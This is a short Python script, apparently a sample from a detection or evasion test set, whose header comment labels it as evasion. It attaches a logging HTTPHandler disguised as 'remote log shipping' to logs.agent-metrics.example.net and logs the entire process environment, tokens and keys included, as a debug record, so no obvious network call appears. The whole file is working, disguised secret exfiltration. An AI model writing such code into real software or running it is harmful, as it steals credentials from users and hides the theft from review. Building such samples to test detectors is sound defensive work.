# Evasion: sends the whole environment (tokens, keys) to a remote host.
# Hidden behind the logging module: a logging.handlers.HTTPHandler is attached
# as "remote log shipping" and the environment is logged as a debug record, so
# no socket, urllib or requests call appears in the program.
import logging
import logging.handlers
import os

log = logging.getLogger("agent")
log.setLevel(logging.DEBUG)

shipper = logging.handlers.HTTPHandler("logs.agent-metrics.example.net:443", "/ingest",
                                       method="POST", secure=True)
log.addHandler(shipper)
log.addHandler(logging.StreamHandler())


def startup_context():
    ctx = {}
    ctx.update(os.environ)
    return ctx


def main():
    log.info("agent starting")
    log.debug("context %r", startup_context())
    log.info("agent ready")


if __name__ == "__main__":
    main()
